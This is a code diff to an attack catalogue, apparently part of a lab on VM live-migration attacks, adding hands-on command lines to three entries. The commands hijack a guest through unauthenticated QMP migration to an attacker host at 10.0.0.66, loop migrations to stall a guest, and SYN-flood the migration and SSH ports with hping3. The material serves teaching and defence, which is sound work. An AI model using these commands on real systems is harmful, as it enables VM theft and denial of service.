@@ -21,6 +21,11 @@ export const controlPlane: readonly AttackDefinition[] = [
     stages: ['wait', 'ask'],
     // ESP protects the pairs of addresses that its policies name, and the attacker’s is in none of them.
     against: all([...pinned, 'closed-monitors', 'listed-destinations'] as const, 'stopped' as const),
+    byHand: {
+      position: 'access',
+      lines: ['qemu -incoming tcp:0:49152', 'qmp-shell host-a migrate uri=tcp:10.0.0.66:49152'],
+      then: 'The guest’s console goes on: it runs on the attacker’s computer now.',
+    },
     simplified:
       'who reaches the monitor could also switch the channel off; here that is set where the attacker does not reach',
     references: [OBERHEIDE, 'QEMU docs/interop/qmp-spec.txt: no authentication', 'RFC 4301, section 4.4.1: policies'],
@@ -37,6 +42,11 @@ export const controlPlane: readonly AttackDefinition[] = [
     gains: 'bandwidth, and the guest’s time: its clients wait at every switch-over',
     stages: ['move', 'ask'],
     against: { 'closed-monitors': 'stopped' },
+    byHand: {
+      position: 'access',
+      lines: ['migrate-loop host-a host-b'],
+      then: 'Watch the client’s answers among the charts; kill ends it.',
+    },
     simplified: 'one small guest; the harm grows with its memory and with how many are moved',
     references: [OBERHEIDE],
   },
@@ -52,6 +62,11 @@ export const controlPlane: readonly AttackDefinition[] = [
     gains: 'no guest can be moved there while it lasts: not for balance, and not away from a host that fails',
     stages: ['flood'],
     against: { 'syn-cookies': 'stopped' },
+    byHand: {
+      position: 'access',
+      lines: ['hping3 -S -p 49152 -i u1000 host-b', 'hping3 -S -p 22 -i u1000 host-b'],
+      then: 'Migrate the guest: the migration waits for its connection.',
+    },
     simplified:
       'the half-open connections fill TCP’s backlog; real products have slots and memory of their own to fill too',
     references: ['RFC 4987: TCP SYN Flooding Attacks and Common Mitigations'],
